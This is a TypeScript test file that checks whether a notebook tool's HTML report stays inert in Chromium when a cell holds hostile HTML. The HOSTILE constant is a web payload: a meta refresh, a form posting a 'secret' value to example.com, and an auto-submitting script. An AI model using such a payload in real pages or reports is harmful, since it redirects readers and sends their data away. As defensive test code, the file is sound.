// Faults through Chromium: a cell's HTML in a `receptive run --html` report that tries to leave the
// page (a meta refresh, a form posting away, a script) must leave the reader where they are.

import { spawnSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { chromium } from "playwright-core";
import { sleep } from "../processes";
import { type Fault, failed, type Outcome, ok } from "./fault";

const cli = join(__dirname, "..", "..", "kernel", "cli.js");
const HOSTILE =
  '<meta http-equiv="refresh" content="0;url=https://example.com/refresh">' +
  '<form action="https://example.com/post" method="post"><input name="q" value="secret"></form>' +
  "<script>document.forms[0] && document.forms[0].submit()</script>";

async function reportThatTriesToLeave(): Promise<Outcome> {
  const dir = mkdtempSync(join(tmpdir(), "receptive-faults-html-"));
  const source = `display.html(${JSON.stringify(HOSTILE)}); "after"`;
  const cell = { cell_type: "code", metadata: {}, execution_count: null, outputs: [], source };
  writeFileSync(
    join(dir, "nb.ipynb"),
    JSON.stringify({ nbformat: 4, nbformat_minor: 4, metadata: {}, cells: [cell] }),
  );
  const html = join(dir, "report.html");
  const r = spawnSync(process.execPath, [cli, "run", join(dir, "nb.ipynb"), "--html", html], {
    timeout: 60_000,
  });
  if (r.status !== 0) return failed(`receptive run exited ${r.status ?? r.signal}`, "the report");
  const browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox"] });
  try {
    const page = await browser.newPage();
    const outside: string[] = [];
    page.on("request", (req) => {
      if (!/^(file|data):/.test(req.url())) outside.push(req.url());
    });
    await page.goto(pathToFileURL(html).href);
    await sleep(1500); // the refresh fires at 0 s, the script at load
    if (page.url() !== pathToFileURL(html).href)
      return failed(`the page went to ${page.url()}`, "the report");
    if (outside.length) return failed(`requests left the page: ${outside.join(", ")}`, "the form's data");
    return ok("the page stayed and nothing left it (meta refresh, form post and script all inert)");
  } finally {
    await browser.close();
  }
}

export const chromiumFaults: Fault[] = [
  {
    name: "a report cell's HTML that refreshes, posts a form and scripts",
    via: "Chromium",
    run: reportThatTriesToLeave,
  },
];
